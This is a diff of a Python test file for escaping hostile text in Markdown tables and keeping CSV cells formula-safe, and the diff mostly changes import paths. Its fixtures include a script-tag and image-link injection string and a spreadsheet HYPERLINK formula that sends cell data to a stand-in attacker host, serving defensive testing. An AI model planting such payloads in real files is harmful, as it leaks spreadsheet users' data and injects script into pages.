@@ -1,4 +1,4 @@
-"""analysis.cells: hostile names and texts shown as text in Markdown tables (review 7, F5)."""
+"""core.cells: hostile names and texts shown as text in Markdown tables (review 7, F5)."""
 
 from __future__ import annotations
 
@@ -9,10 +9,10 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from analysis import cells
-from analysis.cells import FORMULA_START, md_cell
-from analysis.echoreview_report import pairwise_markdown
+from analysis.echoreview.report import pairwise_markdown
 from analysis.reviewers import markdown as reviewers_markdown
+from core import cells
+from core.cells import FORMULA_START, md_cell
 
 HOSTILE = "![x](http://evil.example/p.png) **j** a|b <script>x</script> ~~s~~"
 SHOWN = r"!\[x\](http://evil.example/p.png) \*\*j\*\* a\|b &lt;script&gt;x&lt;/script&gt; \~\~s\~\~"
@@ -43,9 +43,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 def test_results_csv_is_formula_safe_and_read_back_as_written(tmp_path: Path) -> None:
     """Issue 25 #19: results.csv kept a judge's raw answer `=HYPERLINK(...)` as a cell a spreadsheet runs. It
     is quoted now, and the analysis (pandas) and the viewer (DuckDB) read every cell back as the run had it."""
-    from analysis.collect import load_results
-    from analysis.synthetic import synthetic_results
-    from analysis.viewdata import Study
+    from analysis.load.collect import load_results
+    from analysis.load.synthetic import synthetic_results
+    from analysis.view.data import Study
     from experiments.study import results_writers
 
     frame = synthetic_results(n_instances=2, seed=1).iloc[:12].reset_index(drop=True)
@@ -69,8 +69,8 @@ def test_results_csv_is_formula_safe_and_read_back_as_written(tmp_path: Path) ->
 def test_ingested_labels_are_formula_safe_and_read_back_as_written(tmp_path: Path) -> None:
     """Issue 25 #19: `annotate ingest` wrote humans_new.csv with plain to_csv: an annotator named
     `=HYPERLINK(...)` stayed a formula. Written by the one formula-safe writer; load_humans undoes it."""
-    from analysis import annotate
-    from analysis.collect import load_humans
+    from analysis.annotate import select as annotate
+    from analysis.load.collect import load_humans
 
     key = "item,instance_id,candidate_id,source,dimension,low,high\nA,i1,-c1,reference,originality,0,3\n"
     (tmp_path / "key.csv").write_text(key)
